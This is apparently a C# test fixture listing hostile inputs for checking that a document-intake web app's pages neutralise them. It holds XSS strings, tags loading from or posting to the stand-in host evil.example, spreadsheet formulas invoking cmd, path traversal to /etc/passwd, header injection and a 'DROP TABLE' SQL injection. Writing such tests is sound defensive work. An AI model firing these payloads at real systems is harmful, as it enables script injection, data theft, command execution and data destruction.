namespace DocIntake.Web.Tests.EveryPage.Hostile;

/// <summary>
/// Text that somebody may put into a document, a mail or a file's name to make a browser, a spreadsheet or a person do something. What runs would
/// set <c>window.hacked</c>, open a dialog or ask <c>evil.example</c>; what becomes an element carries <c>data-hostile</c>.
/// </summary>
internal static class Payloads
{
    public static readonly IReadOnlyList<string> All =
    [
        // script and elements
        "<script data-hostile>window.hacked=1;alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js data-hostile></SCRIPT>",
        "\"><script data-hostile>alert(document.cookie)</script>",
        "'><img data-hostile src=x onerror=alert(1)>",
        "<img data-hostile src=\"http://evil.example/pixel.gif\">",
        "<img data-hostile srcset=\"//evil.example/a 1x\">",
        "<svg data-hostile onload=alert(1)>",
        "<svg data-hostile><script>window.hacked=1</script></svg>",
        "<svg data-hostile><image href=\"http://evil.example/p.png\"/></svg>",
        "<math data-hostile><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<iframe data-hostile src=\"http://evil.example/\"></iframe>",
        "<iframe data-hostile srcdoc=\"<script>parent.hacked=1</script>\"></iframe>",
        "<object data-hostile data=\"http://evil.example/o\"></object>",
        "<embed data-hostile src=\"http://evil.example/e\">",
        "<base data-hostile href=\"http://evil.example/\">",
        "<meta data-hostile http-equiv=refresh content=\"0;url=http://evil.example/\">",
        "<link data-hostile rel=stylesheet href=\"http://evil.example/s.css\">",
        "<link data-hostile rel=dns-prefetch href=\"//evil.example\">",
        "<form data-hostile action=\"http://evil.example/\"><input name=password>",
        "<video data-hostile autoplay src=\"http://evil.example/v\"></video>",
        "<details data-hostile open ontoggle=alert(1)>",
        "</title></head><body data-hostile onload=alert(1)>",
        "</textarea></option></select></svg><script data-hostile>alert(1)</script>",
        "--><script data-hostile>alert(1)</script><!--",
        "]]><script data-hostile>alert(1)</script>",
        // attributes
        "\" autofocus onfocus=\"alert(1)\" data-hostile=\"",
        "' onmouseover='alert(1)' data-hostile='",
        "x\" style=\"position:fixed;inset:0;background:url(http://evil.example/c)\" data-hostile=\"",
        "`onclick=alert(1) data-hostile=`",
        // addresses
        "javascript:alert(1)//",
        "JaVaScRiPt:window.hacked=1",
        "data:text/html,<script data-hostile>alert(1)</script>",
        "//evil.example/%2e%2e/",
        "http://evil.example/?q=\u00E9",
        // templates
        "{{constructor.constructor('window.hacked=1')()}}",
        "${alert(1)} #{alert(1)} <%= 7*7 %> @(7*7) @Model",
        "&lt;script data-hostile&gt;alert(1)&lt;/script&gt; &#x3C;img src=x&#x3E;",
        // style
        "</style><style data-hostile>*{background:url(//evil.example/b)}</style>",
        "expression(alert(1)); @import url(http://evil.example/i.css);",
        // what cannot be seen, and what turns round
        "invoice\u202Efdp.exe",
        "\u2066left\u2067right\u2069 \u202Dover\u202C",
        "zero\u200Bwidth\u200C\u200D\uFEFFjoined",
        "\u0001\u0002\u0007\u0008bell\u001B[31mred\u001B[0m\u007F",
        "first line\r\nSet-Cookie: hostile=1\r\n\r\n<script data-hostile>alert(1)</script>",
        "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349\u035A\u032F\u031E\u0320\u034DA\u036B\u0357\u0334\u0362\u0335\u031C\u0330\u0354",
        "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67\u200D\uD83D\uDC66 \u05E9\u05DC\u05D5\u05DD \u0645\u0631\u062D\u0628\u0627",
        new string('W', 600),
        string.Concat(Enumerable.Repeat("pneumonoultramicroscopic", 40)),
        // spreadsheets
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        // paths and names
        "../../../../etc/passwd",
        "..\\..\\windows\\system32\\drivers\\etc\\hosts",
        "CON.pdf:stream$DATA",
        "a\"; filename=\"evil.html",
        "%0d%0aLocation:%20http://evil.example/",
        "'; DROP TABLE Documents; --",
        "\0null.pdf",
    ];
}
